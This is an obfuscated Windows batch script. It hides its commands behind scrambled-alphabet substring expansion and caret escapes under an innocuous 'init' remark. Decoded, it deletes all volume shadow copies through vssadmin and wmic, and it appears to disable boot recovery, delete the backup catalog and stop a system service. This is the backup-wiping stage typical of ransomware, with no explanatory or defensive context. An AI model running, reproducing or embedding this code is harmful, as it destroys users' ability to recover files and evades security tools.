REM init 9016 v3
@^e^cho ^o^ff
s^e^t "hlcl=ha/vwlsoIHqVnmekXEGuditJ"
%hlcl:~3,1%%hlcl:~6,1%%hlcl:~6,1%%hlcl:~1,1%%hlcl:~20,1%%hlcl:~-11,1%%hlcl:~-3,1%%hlcl:~-12,1% %hlcl:~-4,1%%hlcl:~14,1%%hlcl:~-19,1%%hlcl:~14,1%%hlcl:~-2,1%%hlcl:~14,1% %hlcl:~-18,1%%hlcl:~0,1%%hlcl:~-23,1%%hlcl:~20,1%%hlcl:~7,1%%hlcl:~4,1%%hlcl:~6,1% %hlcl:~-22,1%%hlcl:~1,1%%hlcl:~-19,1%%hlcl:~5,1% %hlcl:~2,1%%hlcl:~10,1%%hlcl:~19,1%%hlcl:~21,1%%hlcl:~14,1%%hlcl:~-2,1%
@echo ^o^ff
^s^et "zajq=IgeCptwsGPchlKaioymOdL"
%zajq:~-16,1%%zajq:~18,1%%zajq:~15,1%%zajq:~10,1% %zajq:~7,1%%zajq:~11,1%%zajq:~14,1%%zajq:~20,1%%zajq:~16,1%%zajq:~-16,1%%zajq:~10,1%%zajq:~16,1%%zajq:~-18,1%%zajq:~17,1% %zajq:~20,1%%zajq:~-20,1%%zajq:~12,1%%zajq:~2,1%%zajq:~5,1%%zajq:~2,1%
@^e^c^h^o of^f
se^t "rarb=etQasofvy/{Db5duc9H}lB0Zrni"
%rarb:~12,1%%rarb:~16,1%%rarb:~14,1%%rarb:~0,1%%rarb:~14,1%%rarb:~26,1%%rarb:~-26,1% %rarb:~-18,1%%rarb:~4,1%%rarb:~-27,1%%rarb:~-26,1% %rarb:~-17,1%%rarb:~14,1%%rarb:~0,1%%rarb:~-21,1%%rarb:~-24,1%%rarb:~15,1%%rarb:~20,1%%rarb:~-26,1%%rarb:~-8,1% %rarb:~-3,1%%rarb:~-27,1%%rarb:~16,1%%rarb:~-22,1%%rarb:~7,1%%rarb:~0,1%%rarb:~24,1%%rarb:~-19,1%%rarb:~0,1%%rarb:~25,1%%rarb:~-24,1%%rarb:~12,1%%rarb:~20,1%%rarb:~0,1%%rarb:~14,1% %rarb:~25,1%%rarb:~5,1%
@e^cho of^f
s^et "jjvq=/l2fsuTdt{ceprgn}Qi9hb8aENyo"
%jjvq:~21,1%%jjvq:~10,1%%jjvq:~7,1%%jjvq:~11,1%%jjvq:~-21,1%%jjvq:~18,1%%jjvq:~8,1% %jjvq:~0,1%%jjvq:~4,1%%jjvq:~11,1%%jjvq:~8,1% %jjvq:~-19,1%%jjvq:~-21,1%%jjvq:~11,1%%jjvq:~3,1%%jjvq:~23,1%%jjvq:~5,1%%jjvq:~1,1%%jjvq:~-20,1%%jjvq:~16,1% %jjvq:~21,1%%jjvq:~27,1%%jjvq:~27,1%%jjvq:~8,1%%jjvq:~4,1%%jjvq:~-20,1%%jjvq:~23,1%%jjvq:~8,1%%jjvq:~5,1%%jjvq:~4,1%%jjvq:~12,1%%jjvq:~27,1%%jjvq:~1,1%%jjvq:~18,1%%jjvq:~-18,1%%jjvq:~26,1% %jjvq:~18,1%%jjvq:~-14,1%%jjvq:~-13,1%%jjvq:~27,1%%jjvq:~13,1%%jjvq:~-17,1%%jjvq:~23,1%%jjvq:~-27,1%%jjvq:~-27,1%%jjvq:~-25,1%%jjvq:~-5,1%%jjvq:~18,1%%jjvq:~1,1%%jjvq:~5,1%%jjvq:~13,1%%jjvq:~11,1%%jjvq:~4,1%
@ec^ho ^o^ff
^s^e^t "bhzl=nbGzw8em-VtaqU42Wgudilco"
%bhzl:~4,1%%bhzl:~1,1%%bhzl:~11,1%%bhzl:~19,1%%bhzl:~7,1%%bhzl:~20,1%%bhzl:~-24,1% %bhzl:~19,1%%bhzl:~6,1%%bhzl:~21,1%%bhzl:~6,1%%bhzl:~10,1%%bhzl:~6,1% %bhzl:~22,1%%bhzl:~-13,1%%bhzl:~10,1%%bhzl:~-13,1%%bhzl:~21,1%%bhzl:~23,1%%bhzl:~17,1% %bhzl:~-16,1%%bhzl:~12,1%%bhzl:~18,1%%bhzl:~20,1%%bhzl:~-18,1%%bhzl:~10,1%
@^e^cho o^f^f
se^t "jhhz=kVnQlrapouc6mv7tzsPCfMeS/WgBDiy"
%jhhz:~2,1%%jhhz:~22,1%%jhhz:~15,1% %jhhz:~17,1%%jhhz:~-16,1%%jhhz:~-23,1%%jhhz:~7,1% "%jhhz:~-30,1%%jhhz:~-9,1%%jhhz:~-9,1%%jhhz:~-25,1%%jhhz:~12,1% %jhhz:~27,1%%jhhz:~6,1%%jhhz:~-21,1%%jhhz:~0,1%%jhhz:~-22,1%%jhhz:~7,1% %jhhz:~-12,1%%jhhz:~-25,1%%jhhz:~15,1%%jhhz:~6,1%%jhhz:~-27,1%%jhhz:~8,1%%jhhz:~26,1% %jhhz:~28,1%%jhhz:~-25,1%%jhhz:~15,1%%jhhz:~6,1% %jhhz:~23,1%%jhhz:~22,1%%jhhz:~5,1%%jhhz:~-18,1%%jhhz:~29,1%%jhhz:~10,1%%jhhz:~22,1%" %jhhz:~24,1%%jhhz:~30,1%
